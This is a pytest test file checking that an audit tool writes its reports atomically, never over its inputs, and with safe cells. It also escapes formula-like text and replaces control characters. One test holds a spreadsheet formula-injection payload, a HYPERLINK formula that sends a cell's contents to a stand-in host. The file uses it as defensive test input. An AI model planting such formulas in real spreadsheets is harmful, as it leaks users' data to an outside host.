"""The audit's outputs are safe: written whole (a temporary file renamed when complete),
never over an input, and their cells safe for people (no control character a workbook or a
page cannot hold, no text a spreadsheet would take for a formula).
"""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
from pathlib import Path

import pytest

from dme_rules.audit import COLUMNS
from dme_rules.cli import main

from .test_audit import AS_OF, EXAMPLES

CASE = EXAMPLES / "cases" / "spec-example.json"


def _case_with(tmp_path: Path, name: str, case_id: str) -> Path:
    """A copy of the specification's example case whose ``case_id`` is ``case_id``."""
    document = json.loads(CASE.read_text("utf-8"))
    document["case_id"] = case_id
    path = tmp_path / name
    path.write_text(json.dumps(document), "utf-8")
    return path


class TestOutputIsNotAnInput:
    def test_output_equal_to_input_is_refused_and_input_kept(self, tmp_path, capsys):
        """--out naming an input file: exit 2 naming both, the input's bytes untouched."""
        path = tmp_path / "c.jsonl"
        line = json.dumps(json.loads(CASE.read_text("utf-8"))) + "\n"
        path.write_text(line, "utf-8")
        code = main(["audit", str(path), "--as-of", AS_OF, "--out", str(path)])
        error = capsys.readouterr().err
        assert (2, line) == (code, path.read_text("utf-8"))
        assert 2 * 2 == error.count(str(path))  # the output and the input, in French and English

    def test_output_inside_an_input_folder_is_refused(self, tmp_path, capsys):
        """--out inside a folder read as input: exit 2, nothing written there."""
        folder = tmp_path / "fold"
        folder.mkdir()
        shutil.copy(CASE, folder / "a.json")
        code = main(["audit", str(folder), "--as-of", AS_OF, "--out", str(folder / "r.json")])
        assert (2, ["a.json"]) == (code, sorted(p.name for p in folder.iterdir()))
        assert str(folder) in capsys.readouterr().err


class TestWrittenWholeOrNotAtAll:
    @pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".html", ".xlsx", ".parquet"])
    def test_a_failing_writer_leaves_the_previous_file(self, tmp_path, monkeypatch, suffix):
        """A writer that fails midway (a full disk): the previous file as it was, no other
        file left beside it, exit 2."""
        pytest.importorskip("openpyxl")
        pytest.importorskip("pyarrow")
        import dme_rules.audit.writing as writing

        out = tmp_path / f"report{suffix}"
        out.write_bytes(b"previous")

        def full_disk(*args, **kwargs):
            raise OSError(28, "No space left on device")

        for name in ("write_xlsx", "_write_parquet", "html_page"):
            monkeypatch.setattr(writing, name, full_disk)
        monkeypatch.setattr(writing, "_text_of_cells", full_disk)
        code = main(["audit", str(CASE), "--as-of", AS_OF, "--out", str(out)])
        assert (2, b"previous", ["report" + suffix]) == (
            code, out.read_bytes(), sorted(p.name for p in tmp_path.iterdir())
        )  # fmt: skip

    def test_killed_audit_leaves_the_previous_file_intact(self, tmp_path):
        """``kill -9`` of a real audit while it writes: the previous output intact, the only
        other file a hidden ``.partial`` one, which the next run removes."""
        import os
        import signal
        import sys
        import time

        line = json.dumps(json.loads(CASE.read_text("utf-8"))) + "\n"
        source = tmp_path / "many.jsonl"
        source.write_text(line * 4000, "utf-8")
        out = tmp_path / "report.csv"
        out.write_text("previous\n", "utf-8")
        arguments = [sys.executable, "-m", "dme_rules.cli", "audit", str(source),
                     "--as-of", AS_OF, "--out", str(out)]  # fmt: skip
        process = subprocess.Popen(arguments, stderr=subprocess.DEVNULL)
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and process.poll() is None:
            partial = [p for p in tmp_path.iterdir() if p.name.endswith(".partial")]
            if partial and partial[0].stat().st_size > 0:
                break
            time.sleep(0.05)
        assert None is process.poll()  # still writing
        os.kill(process.pid, signal.SIGKILL)
        process.wait()
        left = sorted(p.name for p in tmp_path.iterdir() if p.name not in ("many.jsonl",))
        assert "previous\n" == out.read_text("utf-8")
        assert (2, ".report.csv.", ".partial") == (
            len(left), left[0][: len(".report.csv.")], left[0][-len(".partial") :]
        )  # fmt: skip
        small = tmp_path / "one.json"
        shutil.copy(CASE, small)
        assert 1 == main(["audit", str(small), "--as-of", AS_OF, "--out", str(out)])
        left = sorted(p.name for p in tmp_path.iterdir())
        assert ["many.jsonl", "one.json", "report.csv"] == left  # the .partial one removed


class TestCellsForPeople:
    def test_control_character_is_replaced_in_the_workbook(self, tmp_path, capsys):
        """A case_id with a vertical tab (which a workbook cannot hold): written as U+FFFD,
        counted on standard error, never fatal."""
        openpyxl = pytest.importorskip("openpyxl")
        case = _case_with(tmp_path, "vt.json", "A\u000bB")
        out = tmp_path / "vt.xlsx"
        code = main(["audit", str(case), "--as-of", AS_OF, "--out", str(out)])
        sheet = openpyxl.load_workbook(out).worksheets[0]
        rows = sheet.iter_rows(min_row=2, values_only=True)
        ids = {row[COLUMNS.index("case_id")] for row in rows}
        assert (1, {"A\ufffdB"}) == (code, ids)
        findings = sheet.max_row - 1  # one replaced character per row
        assert f"{findings} caractères que le format" in capsys.readouterr().err

    def test_control_character_is_replaced_in_the_page(self, tmp_path):
        """The HTML page holds no control character: the case's title shows U+FFFD."""
        case = _case_with(tmp_path, "vt.json", "A\u0013B")
        out = tmp_path / "vt.html"
        main(["audit", str(case), "--as-of", AS_OF, "--out", str(out)])
        page = out.read_text("utf-8")
        assert ("\u0013" in page, "A\ufffdB" in page) == (False, True)

    def test_formula_is_a_string_cell_in_the_workbook(self, tmp_path):
        """A case_id that reads as a formula is stored as a string cell, never a formula."""
        openpyxl = pytest.importorskip("openpyxl")
        formula = '=HYPERLINK("http://example.invalid/"&B3,"click")'
        case = _case_with(tmp_path, "fx.json", formula)
        out = tmp_path / "fx.xlsx"
        main(["audit", str(case), "--as-of", AS_OF, "--out", str(out)])
        cell = openpyxl.load_workbook(out).worksheets[0].cell(2, COLUMNS.index("case_id") + 1)
        assert (formula, "s") == (cell.value, cell.data_type)

    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
    def test_formula_like_text_is_escaped_in_the_spreadsheet_csv(self, tmp_path, start):
        """--excel: text beginning with = + - @ tab or CR gets a leading ' (shown as text);
        the CSV for programs keeps it as is."""
        case_id = f"{start}1+2"
        case = _case_with(tmp_path, "fx.json", case_id)
        for excel, expected in ((True, f"'{case_id}"), (False, case_id)):
            out = tmp_path / ("excel.csv" if excel else "plain.csv")
            main(["audit", str(case), "--as-of", AS_OF, "--out", str(out), *(["--excel"] * excel)])
            with out.open(encoding="utf-8-sig", newline="") as stream:
                rows = list(csv.reader(stream, delimiter=";" if excel else ","))
            assert expected == rows[1][COLUMNS.index("case_id")]

    def test_negative_number_is_not_escaped(self):
        """A negative number in the spreadsheet's CSV stays a number: no ' before it."""
        from dme_rules.audit.writing import _not_formulas

        assert ["-3", "-2,50", "'-2+3", 4, None] == _not_formulas(["-3", "-2,50", "-2+3", 4, None])
